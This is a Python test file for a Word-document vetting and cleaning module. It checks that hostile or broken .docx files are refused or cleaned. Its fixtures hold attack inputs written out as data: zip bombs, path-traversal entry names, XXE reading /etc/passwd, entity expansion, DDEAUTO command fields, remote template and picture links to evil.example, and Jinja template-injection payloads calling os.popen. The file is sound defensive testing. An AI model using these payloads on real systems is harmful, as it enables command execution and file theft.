"""Hostile and broken Word files (trust.md, Hostile cases: Templates): each refused with its true reason, nothing run."""

from __future__ import annotations

import resource
import struct
import subprocess
import sys
import zipfile
from contextlib import suppress
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from kamdesk.documents import cleaning, doctor, edits, letterhead, vetting
from kamdesk.documents.context.catalogue import catalogue
from kamdesk.model.messages import KamdeskError
from kamdesk.translation import Translator
from tests.documents.letterheads import russian
from tests.documents.word_files import (
    HEAD,
    MACRO_DOCUMENT,
    MACRO_TEMPLATE,
    NAMESPACES,
    WordFile,
    field,
    linked_picture,
    pack,
    paragraph,
    relation,
    run,
)

COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def compound(*names: str) -> bytes:
    """A file that begins like an OLE compound file and has these entries in its directory."""
    return COMPOUND + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in names)


def with_entry(name: str, content: bytes) -> bytes:
    return pack([*WordFile(paragraph("x")).entries().items(), (name, content)])


def odt() -> bytes:
    return pack([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")])


def replaced(part: str, content: bytes) -> bytes:
    return pack(list({**WordFile(paragraph("x")).entries(), part: content}.items()))


def lying_size(data: bytes) -> bytes:
    """The same zip whose directory says that the document is one byte long."""
    at = data.index(b"PK\x01\x02")
    while data[at + 46 : at + 63] != b"word/document.xml":
        at = data.index(b"PK\x01\x02", at + 4)
    return data[: at + 24] + struct.pack("<I", 1) + data[at + 28 :]


def flipped(data: bytes) -> bytes:
    """One wrong byte inside the packed document."""
    at = data.index(b"word/document.xml") + 60
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def overlapping() -> bytes:
    """Two directory entries that share one local entry, as a quoted bomb does."""
    data = bytearray(WordFile(paragraph("x")).build())
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 4)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def encrypted_entries(data: bytes) -> bytes:
    found = bytearray(data)
    at = 0
    while (at := found.find(b"PK\x01\x02", at)) >= 0:
        found[at + 8] |= 1
        at += 4
    return bytes(found)


def many_entries() -> bytes:
    return pack([*WordFile(paragraph("x")).entries().items(), *((f"x/{n}", b"") for n in range(2_100))])


def document(inner: str, before: str = "", encoding: str = "utf-8") -> bytes:
    text = f"{before}<w:document {NAMESPACES}><w:body>{inner}</w:body></w:document>"
    return text.encode(encoding)


ENTITIES = (
    '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY a{n} "{"&a" + (str(n - 1) if n > 1 else "") + ";"} ">' for n in range(1, 9))
    + "]>"
)
EXTERNAL_ENTITY = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REFUSED = {
    "empty": (b"", "word.empty"),
    "zeros": (bytes(5000), "word.zeros"),
    "a password": (compound("EncryptionInfo", "EncryptedPackage"), "word.is_encrypted"),
    "an old .doc": (compound("WordDocument", "1Table"), "word.is_doc"),
    "an old .xls renamed": (compound("Workbook"), "word.is_spreadsheet"),
    "a .msg renamed": (compound("__properties_version1.0"), "word.is_mail"),
    "odt": (odt(), "word.is_odt"),
    "rtf renamed": (b"{\\rtf1 hello}", "word.is_rtf"),
    "pdf renamed": (b"%PDF-1.7\n", "word.is_pdf"),
    "html renamed": (b"\xef\xbb\xbf<html><body>x</body></html>", "word.is_web_page"),
    "flat XML": (b'<?xml version="1.0"?><pkg:package/>', "word.is_plain_xml"),
    "flat OpenDocument": (
        b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument"/>',
        "word.is_odt",
    ),
    "any XML": (b'<?xml version="1.0"?><rss/>', "word.not_word"),
    "picture renamed": (b"\x89PNG\r\n\x1a\n", "word.is_picture"),
    "vCard renamed": (b"BEGIN:VCARD\r\n", "word.is_contact"),
    "text renamed": ("Привет".encode("cp1251"), "word.not_word"),
    "xlsx renamed": (
        pack([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<x/>")]),
        "word.is_spreadsheet",
    ),
    "pptx renamed": (pack([("[Content_Types].xml", b"<Types/>"), ("ppt/x.xml", b"<x/>")]), "word.is_slides"),
    "any zip": (pack([("readme.txt", b"hello")]), "word.is_archive"),
    "cut in half": (WordFile(paragraph("x")).build()[:900], "word.cut"),
    "cut by a byte": (WordFile(paragraph("x")).build()[:-1], "word.cut"),
    "only the end of a zip": (b"PK\x05\x06" + bytes(18), "word.cut"),
    "a flipped byte": (flipped(WordFile(paragraph("x" * 500)).build()), "word.damaged"),
    "encrypted entries": (encrypted_entries(WordFile(paragraph("x")).build()), "word.is_encrypted"),
    "a zip bomb": (with_entry("word/media/x.bmp", bytes(40_000_000)), "word.zip_bomb"),
    "overlapping entries": (overlapping(), "word.zip_bomb"),
    "a lying size": (lying_size(WordFile(paragraph("x")).build()), "word.damaged"),
    "many entries": (many_entries(), "word.too_many_entries"),
    "a path out": (with_entry("../../evil.xml", b"<x/>"), "word.bad_entry_name"),
    "an absolute path": (with_entry("/etc/passwd", b"x"), "word.bad_entry_name"),
    "a drive letter": (with_entry("C:/evil", b"x"), "word.bad_entry_name"),
    "a backslash": (with_entry("word\\evil", b"x"), "word.bad_entry_name"),
    "a part twice": (with_entry("word/document.xml", b"<x/>"), "word.duplicate_entry"),
    "a part twice in other letters": (with_entry("Word/Document.XML", b"<x/>"), "word.duplicate_entry"),
    "DOCTYPE": (replaced("word/document.xml", document("", HEAD + ENTITIES)), "word.doctype"),
    "external entity": (replaced("word/styles.xml", document("", EXTERNAL_ENTITY)), "word.doctype"),
    "DOCTYPE in UTF-16": (
        replaced("word/document.xml", document("", "\ufeff" + ENTITIES, "utf-16-le")),
        "word.doctype",
    ),
    "DOCTYPE in UTF-16 BE": (
        replaced("word/document.xml", document("", "\ufeff" + ENTITIES, "utf-16-be")),
        "word.doctype",
    ),
    "DOCTYPE in UTF-16 without mark": (
        replaced("word/document.xml", document("", ENTITIES, "utf-16-le")),
        "word.doctype",
    ),
    "DOCTYPE in UTF-32": (
        replaced("word/document.xml", document("", ENTITIES, "utf-32")),
        "word.xml_encoding",
    ),
    "DOCTYPE in UTF-7": (
        replaced("word/document.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<x/>'),
        "word.xml_encoding",
    ),
    "DOCTYPE in EBCDIC": (
        replaced("word/document.xml", document("", EXTERNAL_ENTITY, "cp500")),
        "word.xml_encoding",
    ),
    "DOCTYPE in a relations part": (
        replaced("word/_rels/document.xml.rels", EXTERNAL_ENTITY.encode() + b"<Relationships/>"),
        "word.doctype",
    ),
    "too many elements": (replaced("word/document.xml", document("<w:p/>" * 600_000)), "word.xml_too_large"),
    "too many attributes": (
        replaced(
            "word/document.xml", document("<w:p " + " ".join(f'a{n}=""' for n in range(1_600_000)) + "/>")
        ),
        "word.xml_too_large",
    ),
    "nested 3,000 deep": (
        replaced("word/document.xml", document("<w:sdt>" * 3_000 + "</w:sdt>" * 3_000)),
        "word.xml_broken",
    ),
    "broken XML": (replaced("word/document.xml", b"<w:document"), "word.xml_broken"),
    "no main part": (replaced("_rels/.rels", b"<Relationships/>"), "word.no_document"),
    "no content types": (
        pack([(name, data) for name, data in WordFile().entries().items() if name != "[Content_Types].xml"]),
        "word.is_archive",
    ),
    "strict": (
        replaced(
            "_rels/.rels",
            WordFile()
            .entries()["_rels/.rels"]
            .replace(
                b"http://schemas.openxmlformats.org/officeDocument/2006",
                b"http://purl.oclc.org/ooxml/officeDocument",
            ),
        ),
        "word.is_strict",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_is_refused_with_its_true_reason_everywhere(name: str) -> None:
    data, code = REFUSED[name]
    for origin in (vetting.FOREIGN, vetting.OWN, vetting.OUTPUT):
        report = vetting.vet(data, origin)
        assert [finding.text.code for finding in report.findings] == [code]
        assert not report.ok
    assert [finding.kind for finding in doctor.check(data, catalogue("group"), "group")] == ["refused"]
    for read in (cleaning.clean, letterhead.places, letterhead.styles, edits.text):
        with pytest.raises(KamdeskError) as caught:
            read(data)
        assert caught.value.message.code == code
    for language in ("ru", "en"):
        words = Translator(language).message(report.findings[0].text)
        assert len(words) > 20
        assert "{" not in words


# --- features that are vetted out of foreign files and cleaned out of the user's own -----------------------


def unc_template() -> WordFile:
    made = WordFile(paragraph("x"))
    made.settings(
        '<w:attachedTemplate r:id="rId1"/>',
        relation("attachedTemplate", "\\\\evil\\share\\Normal.dotm", 1, external=True),
    )
    return made


def external_picture() -> WordFile:
    made = WordFile()
    made.body.append(
        f"<w:p>{linked_picture(made.relate('image', 'http://evil.example/x.png', external=True))}</w:p>"
    )
    return made


def vml_picture() -> WordFile:
    shape = '<v:shape style="width:9pt;height:9pt"><v:imagedata src="http://evil.example/x.png"/></v:shape>'
    return WordFile(f"<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>")


def macros(main_type: str) -> WordFile:
    made = WordFile(paragraph("x"), main_type=main_type)
    made.relations.append(
        '<Relationship Id="rId77" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    )
    return made.part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")


def ole() -> WordFile:
    made = WordFile()
    number = made.relate("oleObject", "embeddings/oleObject1.bin")
    made.part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")
    made.body.append(
        '<w:p><w:r><w:object><v:shape id="s" style="width:50pt;height:20pt"/><o:OLEObject Type="Embed" ProgID="Package" '
        f'ShapeID="s" DrawAspect="Content" ObjectID="1" r:id="{number}"/></w:object></w:r></w:p>'
    )
    return made


def linked_ole() -> WordFile:
    made = WordFile()
    number = made.relate("oleObject", "http://evil.example/x.html!", external=True)
    made.body.append(
        f'<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="{number}"/></w:object></w:r></w:p>'
    )
    return made


def alt_chunk() -> WordFile:
    made = WordFile()
    number = made.relate("aFChunk", "chunk.html")
    made.part("word/chunk.html", "<html/>", "text/html")
    made.body.append(f'<w:altChunk r:id="{number}"/>')
    return made


def activex() -> WordFile:
    made = WordFile()
    number = made.relate("control", "activeX/activeX1.xml")
    made.part("word/activeX/activeX1.xml", "<x/>", "application/vnd.ms-office.activeX+xml")
    made.body.append(f'<w:p><w:r><w:object><w:control r:id="{number}" w:name="a"/></w:object></w:r></w:p>')
    return made


def frame_set() -> WordFile:
    made = WordFile(paragraph("x"))
    made.relate("frame", "http://evil.example/", external=True)
    return made


def sub_document() -> WordFile:
    made = WordFile()
    made.body.append(
        f'<w:subDoc r:id="{made.relate("subDocument", "file:///C:/other.docx", external=True)}"/>'
    )
    return made


def mail_merge() -> WordFile:
    made = WordFile(paragraph("x"))
    made.settings(
        '<w:mailMerge><w:mainDocumentType w:val="catalog"/><w:connectString w:val="DSN=x"/><w:query w:val="SELECT 1"/>'
        '<w:dataSource r:id="rId1"/></w:mailMerge>',
        relation("mailMergeSource", "file:///C:/people.xlsx", 1, external=True),
    )
    return made


def nested_name() -> WordFile:
    """A field whose name is put together by another field."""
    inner = field(' SEQ x \\* "DDE" ', result="DDEAUTO")
    return WordFile(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:instrText> c:\\x cmd </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def over_paragraphs() -> WordFile:
    return WordFile(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r></w:p>'
        '<w:p><w:r><w:instrText>EAUTO c:\\x cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def field_in_header() -> WordFile:
    made = WordFile(paragraph("x"))
    made.side("header", paragraph(field(' INCLUDEPICTURE "http://evil.example/x.png" \\d ', pieces=9)))
    return made


def missing_target() -> WordFile:
    made = WordFile()
    made.body.append(
        f"<w:p>{linked_picture(made.relate('image', 'media/none.png')).replace('r:link', 'r:embed')}</w:p>"
    )
    return made


def web_extension() -> WordFile:
    made = WordFile(paragraph("x"))
    made.root_relations.append(
        '<Relationship Id="rId8" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" '
        'Target="word/webextensions/taskpanes.xml"/>'
    )
    return made.part("word/webextensions/taskpanes.xml", "<x/>")


def svg() -> WordFile:
    made = WordFile(paragraph("x"))
    made.relate("image", "media/x.svg")
    return made.part(
        "word/media/x.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/x.png"/><script>1</script></svg>',
        "image/svg+xml",
    )


FEATURES = {
    "UNC template": (unc_template(), "link"),
    "external picture": (external_picture(), "link"),
    "external picture of VML": (vml_picture(), "link"),
    "macros in a .docm": (macros(MACRO_DOCUMENT), "macros"),
    "macros in a .dotm": (macros(MACRO_TEMPLATE), "macros"),
    "OLE": (ole(), "ole"),
    "linked OLE": (linked_ole(), "ole"),
    "altChunk": (alt_chunk(), "altchunk"),
    "ActiveX": (activex(), "activex"),
    "frames": (frame_set(), "link"),
    "subdocument": (sub_document(), "subdocument"),
    "mail merge": (mail_merge(), "mail_merge"),
    "DDE over runs": (WordFile(paragraph(field("DDEAUTO c:\\x cmd", pieces=12))), "field"),
    "DDE in fldSimple": (WordFile('<w:p><w:fldSimple w:instr=" dde x y "/></w:p>'), "field"),
    "DDE over paragraphs": (over_paragraphs(), "field"),
    "a computed field name": (nested_name(), "field"),
    "a field in a header": (field_in_header(), "field"),
    "a stray instruction": (WordFile("<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"), "field"),
    "a missing target": (missing_target(), "missing_target"),
    "web add-in": (web_extension(), "macros"),
    "SVG that fetches": (svg(), "link"),
}


@pytest.mark.parametrize("name", FEATURES)
def test_a_feature_is_refused_from_others_and_cleaned_from_ones_own(name: str) -> None:
    made, kind = FEATURES[name]
    data = made.build()
    for origin in (vetting.FOREIGN, vetting.OUTPUT):
        report = vetting.vet(data, origin)
        assert not report.ok
        assert kind in {finding.kind for finding in report.findings}
    assert vetting.vet(data, vetting.OWN).ok
    cleaned = cleaning.clean(data)
    assert cleaned.removed
    assert vetting.vet(cleaned.data, vetting.OUTPUT).ok
    with zipfile.ZipFile(BytesIO(cleaned.data)) as archive:
        everything = b"".join(archive.read(entry) for entry in archive.namelist())
    assert b"evil" not in everything
    assert b"DDE" not in everything.upper()


def test_a_relation_named_twice_is_refused_even_in_ones_own_file() -> None:
    made = WordFile(f'<w:p><w:hyperlink r:id="rId9">{run("x")}</w:hyperlink></w:p>')
    made.relations += [
        relation("hyperlink", "https://example.com", 9, True),
        relation("hyperlink", "https://example.org", 9, True),
    ]
    assert not vetting.vet(made.build(), vetting.OWN).ok
    with pytest.raises(KamdeskError) as caught:
        cleaning.clean(made.build())
    assert caught.value.message.code == "word.cannot_clean"


PAYLOADS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ self._TemplateReference__context }}",
    "{{ config.items() }}",
    "{{ request|attr('application') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{{ range(999999999) }}",
    "{{ client.name.__class__ }}",
    "{{ client['name']['__class__'] }}",
    "{% set x = namespace() %}",
    "{% macro x() %}{{ x() }}{% endmacro %}",
)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("where", ["body", "header", "footnote", "row"])
def test_payloads_are_named_with_their_place(payload: str, where: str) -> None:
    made = WordFile(paragraph("x"))
    if where == "body":
        made.body.append(paragraph(payload))
    elif where == "header":
        made.side("header", paragraph(payload))
    elif where == "footnote":
        made.footnote(paragraph(payload))
    else:
        made.body.append(
            f"<w:tbl><w:tr><w:tc>{paragraph(payload.replace('{%', '{%tr'))}</w:tc></w:tr></w:tbl>"
        )
    errors = [
        item for item in doctor.check(made.build(), catalogue("group"), "group") if item.severity == "error"
    ]
    assert errors
    place = errors[0].place
    assert (
        Translator("en")
        .message(place)
        .startswith(
            {
                "body": "paragraph 2",
                "header": "header",
                "footnote": "footnote 1",
                "row": "table 1, row 1, cell 1",
            }[where]
        )
    )


@pytest.mark.parametrize(
    "text", ["{{" * 300_000, "{{ a " * 100_000 + "}}", "{" * 600_000, "{% if x %}" * 20_000, "}}" * 300_000]
)
def test_a_million_braces_do_not_hang_the_doctor(text: str) -> None:
    found = doctor.check(WordFile(paragraph(text)).build(), catalogue("group"), "group")
    assert 0 < len(found) <= doctor.MOST_FINDINGS


@pytest.mark.parametrize(
    "inner", ["1" + "+1" * 50_000, "a" + ".b" * 50_000, "(" * 50_000, "[" * 50_000, "a" + "|upper" * 50_000]
)
@pytest.mark.parametrize("form", ["{{{{ {} }}}}", "{{% if {} %}}{{% endif %}}"])
def test_an_expression_too_deep_to_walk_is_a_finding(inner: str, form: str) -> None:
    data = WordFile(paragraph(form.format(inner))).build()
    assert [item for item in doctor.check(data, catalogue("group"), "group") if item.severity == "error"]
    assert doctor.check(data, catalogue("group"), "group", filled=frozenset())


def test_floods_of_fields_and_relations_are_cut_short() -> None:
    fields = WordFile(*(paragraph(field(f"DDE x{number}")) for number in range(3_000))).build()
    report = vetting.vet(fields, vetting.FOREIGN)
    assert not report.ok
    assert len(report.findings) == vetting.MOST_FINDINGS
    many = WordFile(paragraph("x"))
    many.relations += [
        relation("hyperlink", "file:///x", number, external=True) for number in range(10, 8_000)
    ]
    assert [finding.text.code for finding in vetting.vet(many.build(), vetting.FOREIGN).findings] == [
        "word.xml_too_large"
    ]


@given(st.data())
def test_no_damage_gives_anything_but_a_reason(data: st.DataObject) -> None:
    """Bytes flipped in the zip, or elements moved, renamed and dropped inside its XML."""
    source = data.draw(st.sampled_from([russian(), *(made for made, _ in FEATURES.values())]))
    if data.draw(st.booleans()):
        damaged = bytearray(source.build())
        for _ in range(data.draw(st.integers(1, 5))):
            damaged[data.draw(st.integers(0, len(damaged) - 1))] = data.draw(st.integers(0, 255))
        file = bytes(damaged)
    else:
        entries = source.entries()
        name = data.draw(
            st.sampled_from(sorted(name for name in entries if name.endswith((".xml", ".rels"))))
        )
        root = etree.fromstring(entries[name])
        nodes = list(root.iter("*"))
        for _ in range(data.draw(st.integers(1, 5))):
            one, other = data.draw(st.sampled_from(nodes)), data.draw(st.sampled_from(nodes))
            what = data.draw(st.integers(0, 2))
            if what == 0 and one.getparent() is not None:
                one.getparent().remove(one)
            elif what == 1:
                one.tag = other.tag
            elif one not in other.iterancestors() and one is not other and one.getparent() is not None:
                other.append(one)
        file = pack(list({**entries, name: etree.tostring(root)}.items()))
    vetting.vet(file, vetting.FOREIGN)
    doctor.check(file, catalogue("group"), "group")
    for read in (
        cleaning.clean,
        letterhead.places,
        edits.words,
        lambda content: letterhead.prepare(content, None, "variant", "ru"),
        lambda content: edits.differences(content, content),
    ):
        with suppress(KamdeskError):
            read(file)


def test_the_largest_accepted_file_stays_within_the_workers_memory() -> None:
    """512 MB of address space, as the worker has: vet, clean, check and compare a document near the limits."""
    if not hasattr(resource, "RLIMIT_AS"):
        pytest.skip("no RLIMIT_AS here")
    program = (
        "import resource; resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))\n"
        "from tests.documents.word_files import WordFile, paragraph, run\n"
        "from kamdesk.documents import vetting, cleaning, doctor, edits\n"
        "from kamdesk.documents.context.catalogue import catalogue\n"
        "data = WordFile(*(paragraph(run('word %d' % n)) for n in range(70_000))).build()\n"
        "assert vetting.vet(data, 'foreign').ok\n"
        "assert cleaning.clean(data).data\n"
        "assert doctor.check(data, catalogue('group'), 'group')\n"
        "assert edits.differences(data, data) == ()\n"
        "print('done')"
    )
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=False, timeout=50
    )
    assert done.stdout.strip() == "done", done.stderr[-2000:]
